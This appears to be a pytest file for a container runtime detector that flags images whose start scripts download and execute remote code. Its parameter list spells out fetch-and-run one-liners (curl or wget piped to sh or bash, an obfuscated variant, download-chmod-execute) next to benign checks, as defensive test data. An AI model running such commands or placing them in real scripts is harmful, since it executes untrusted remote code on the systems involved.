"""Images that attack from their start."""

from __future__ import annotations

import pytest

from periderm.engines.runtime import run_example
from periderm.engines.runtime.detectors.malicious_image import DETECTOR
from periderm.engines.runtime.scene import runs, scene
from periderm.model.event import EventFlag

FIRST = runs(1, 0, "/bin/sh", "sh", "/start", at=0.0)


@pytest.mark.parametrize(
    ("line", "fires"),
    [
        ("curl -s http://h/x.sh | sh", True),
        ("wget -qO- https://h/x | bash -s", True),
        ('bash -c "$(curl -fsSL http://h/x)"', True),
        ("cur''l -s http://h/x.sh | s''h", True),
        ("curl -o /tmp/a http://h/a && chmod 755 /tmp/a && /tmp/a", True),
        ("curl -sf http://db/health || exit 1", False),
        ("curl -o /tmp/a.json http://h/a.json && cat /tmp/b", False),
        ("until nc -z db 5432; do sleep 1; done; exec server", False),
    ],
)
def test_what_a_start_script_may_say(line: str, fires: bool) -> None:
    """Waiting and fetching data are honest; running what was fetched is not."""
    assert bool(run_example(DETECTOR, scene(FIRST, runs(2, 1, "/bin/sh", "sh", "-c", line, at=1.0)))) == fires


def test_only_the_first_half_minute_and_only_the_images_own() -> None:
    """Who comes in by exec, or later, is told by others."""
    line = ("sh", "-c", "curl http://h/a | sh")
    assert run_example(DETECTOR, scene(FIRST, runs(2, 1, "/bin/sh", *line, at=40.0))) == []
    assert run_example(DETECTOR, scene(FIRST, runs(2, 1, "/bin/sh", *line, at=2.0, flags=EventFlag.EXEC_SESSION))) == []
